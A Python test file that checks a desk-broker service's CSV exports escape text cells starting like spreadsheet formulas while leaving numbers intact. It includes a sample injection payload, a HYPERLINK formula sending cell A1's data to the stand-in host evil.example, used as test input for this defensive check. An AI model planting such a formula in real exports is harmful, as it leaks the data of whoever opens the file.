"""CSV exports a spreadsheet opens without running what an administrator typed: a text
cell that starts like a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return) gets
a leading ``'``; a number stays a number. The server's usage report is checked here
directly and through its route; the console's events export (``csv`` of
``console_ui.js``) with node, the module loaded as the browser loads it."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path
from typing import Any

from sqlalchemy import update

from deskbroker.domain.csv_cells import cell, text_cell
from deskbroker.services.webhooks import USAGE_FIELDS, usage_csv
from deskbroker.store.tables import Tenant
from tests.helpers import Api
from tests.tools import NODE, require

STATIC = Path(__file__).resolve().parent.parent / "src" / "deskbroker" / "web" / "static"
EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"details")'
# Each formula start, and text that only looks like one further in.
TEXTS = {
    EVIL: "'" + EVIL,
    "+1+1": "'+1+1",
    "-3.5": "'-3.5",  # text, not a figure: a spreadsheet would compute it
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "acme": "acme",
    "a=b-c": "a=b-c",
    "": "",
}


def _parsed(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_text_cells_that_start_like_a_formula_are_written_as_text() -> None:
    for given, written in TEXTS.items():
        assert text_cell(given) == written, given
    # Numbers are figures, not text anyone typed: a negative one stays a number.
    assert cell(-3.5) == -3.5
    assert cell(0) == 0
    assert cell(None) == ""


def _usage_row(tenant: str, **figures: Any) -> dict[str, Any]:
    return {
        "tenant_id": "t1",
        "tenant": tenant,
        "month": "2024-05",
        "sessions": 3,
        "session_hours": -3.5,
        "desktop_hours": 1.25,
        "desktops": 2,
        "peak_concurrent_sessions": 1,
        "peak_at": None,
        **figures,
    }


def test_the_usage_csv_defuses_text_and_keeps_numbers() -> None:
    rows = [_usage_row(given) for given in TEXTS]
    parsed = _parsed(usage_csv(rows))
    assert [r["tenant"] for r in parsed] == list(TEXTS.values())
    for row in parsed:
        assert list(row) == list(USAGE_FIELDS)
        # -3.5 in a figures column is written as the number it is.
        assert row["session_hours"] == "-3.5"
        assert row["sessions"] == "3"
        assert row["peak_at"] == ""


def test_the_usage_route_answers_a_defused_csv(api: Api) -> None:
    """A tenant name the API would refuse, as an older broker or the database might
    hold it: the report's CSV still carries it as text."""
    with api.ctx.db.write() as session:
        session.execute(update(Tenant).where(Tenant.name == "default").values(name=EVIL))
    response = api.client.get("/api/v1/admin/usage?format=csv", headers=api.headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    [row] = [r for r in _parsed(response.text) if r["tenant"].endswith(EVIL)]
    assert row["tenant"] == "'" + EVIL
    assert row["sessions"] == "0"


# The console's modules import each other as "/static/...", as the browser fetches them:
# node resolves that to the package's static folder, as ES modules.
HOOKS = """
const STATIC = %s;
export async function resolve(specifier, context, next) {
  if (specifier.startsWith("/static/")) {
    const url = STATIC + specifier.slice("/static/".length);
    return { url, format: "module", shortCircuit: true };
  }
  return next(specifier, context);
}
"""
REGISTER = 'import { register } from "node:module";\nregister("./hooks.mjs", import.meta.url);\n'
MAIN = """
import { csv } from "/static/console_ui.js";
const rows = JSON.parse(process.argv[2]);
process.stdout.write(csv(rows, ["name", "figure", "detail"]));
"""


def _console_csv(tmp_path: Path, rows: list[dict[str, Any]]) -> str:
    [node] = require(NODE)
    (tmp_path / "hooks.mjs").write_text(HOOKS % json.dumps(STATIC.as_uri() + "/"))
    (tmp_path / "register.mjs").write_text(REGISTER)
    (tmp_path / "main.mjs").write_text(MAIN)
    done = subprocess.run(
        [node, "--import", "./register.mjs", "main.mjs", json.dumps(rows)],
        cwd=tmp_path,
        capture_output=True,  # bytes: text mode would turn the CSV's \r\n into \n
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout.decode()


def test_the_consoles_csv_export_defuses_text_and_keeps_numbers(tmp_path: Path) -> None:
    rows: list[dict[str, Any]] = [{"name": given, "figure": -3.5} for given in TEXTS]
    rows.append({"name": None, "figure": 2, "detail": {"reason": "=1+1"}})
    text = _console_csv(tmp_path, rows)
    assert text.startswith("name,figure,detail\r\n")
    parsed = _parsed(text)
    assert [r["name"] for r in parsed] == [*TEXTS.values(), ""]
    assert [r["figure"] for r in parsed] == ["-3.5"] * len(TEXTS) + ["2"]
    # An object is written as its JSON, which never starts like a formula.
    assert parsed[-1]["detail"] == '{"reason":"=1+1"}'
    # A defused cell still quoted where it must be.
    assert '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""details"")"' in text
